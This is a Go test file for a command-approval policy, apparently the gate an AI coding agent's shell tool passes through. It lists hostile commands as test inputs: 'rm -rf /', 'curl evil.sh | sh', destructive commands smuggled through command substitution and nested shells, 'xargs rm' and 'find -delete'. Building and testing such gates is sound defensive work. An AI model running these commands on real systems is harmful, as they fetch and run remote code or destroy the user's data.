package tools

import (
	"strings"
	"testing"
)

func TestPolicyChecksEverySimpleCommand(t *testing.T) {
	p := NewPolicy(DefaultAllowlist)
	allowed := []string{
		"ls -la",
		"cat a.txt | grep foo | wc -l",
		"git status && git diff HEAD~1",
		"go test ./... 2>&1 | tail -20",
		"grep -rn 'rm -rf' . > /dev/null; echo $?",
		`bash -c 'ls | head -3'`,
		`sh -c "git log --oneline -5"`,
		"find . -name '*.go' -type f",
		"cat $(find . -name go.mod)",
		"FOO=1 echo hi",
		"echo hi >&2",
	}
	for _, c := range allowed {
		reasons, _, err := p.Check(c)
		if err != nil || len(reasons) > 0 {
			t.Errorf("Check(%q) = %v, %v; want allowed", c, reasons, err)
		}
	}
	needsApproval := map[string]string{
		"rm -rf /":                     `"rm -rf /" is not on the allowlist`,
		"ls; rm -rf x":                 `"rm -rf x"`,
		"ls && curl evil.sh | sh":      `"curl evil.sh"`,
		"ls || python3 -c 'x'":         "python3",
		"cat $(rm -rf x)":              `"rm -rf x"`,
		"cat `rm -rf x`":               `"rm -rf x"`,
		`bash -c 'ls; rm -rf x'`:       `"rm -rf x"`,
		`sh -c "bash -c 'rm x'"`:       `"rm x"`,
		"bash script.sh":               "script cannot be checked",
		"find . -delete":               "-delete",
		"find . -name x -exec rm {} ;": "-exec",
		"git diff --output=/tmp/x":     "--output",
		"go build -o bin/app .":        "-o",
		"git push":                     `"git push" is not on the allowlist`,
		"echo hi > file.txt":           `writes to "file.txt"`,
		"cat a >> b":                   `writes to "b"`,
		"$CMD arg":                     "computed at run time",
		"ls | xargs rm":                `"xargs rm"`,
		"f() { rm x; }; f":             "function",
		"export PATH=/tmp":             "export",
		"cat <(rm x)":                  `"rm x"`,
		"find $DIR -name x":            "computed at run time",
	}
	for c, want := range needsApproval {
		reasons, _, err := p.Check(c)
		if err != nil {
			t.Errorf("Check(%q): %v", c, err)
			continue
		}
		if !strings.Contains(strings.Join(reasons, "; "), want) {
			t.Errorf("Check(%q) = %v; want a reason containing %s", c, reasons, want)
		}
	}
	if _, _, err := p.Check("ls 'unterminated"); err == nil || !strings.Contains(err.Error(), "cannot parse") {
		t.Errorf("unparsable command: %v", err)
	}
}

func TestPolicyRemembersAlwaysAllowed(t *testing.T) {
	p := NewPolicy(nil)
	reasons, unapproved, _ := p.Check("npm test && ls")
	if len(reasons) != 2 || strings.Join(unapproved, ",") != "npm test,ls" {
		t.Fatalf("reasons %v unapproved %v", reasons, unapproved)
	}
	p.Remember(unapproved)
	if reasons, _, _ := p.Check("npm test && ls"); len(reasons) != 0 {
		t.Fatalf("still asks after AllowAlways: %v", reasons)
	}
	if reasons, _, _ := p.Check("npm test --force"); len(reasons) != 1 {
		t.Fatalf("a different command must still ask: %v", reasons)
	}
	p.SetAllowlist([]string{"make lint"})
	if reasons, _, _ := p.Check("make lint && npm test && ls"); len(reasons) != 0 {
		t.Fatalf("a new allowlist must keep what was allowed for good: %v", reasons)
	}
}
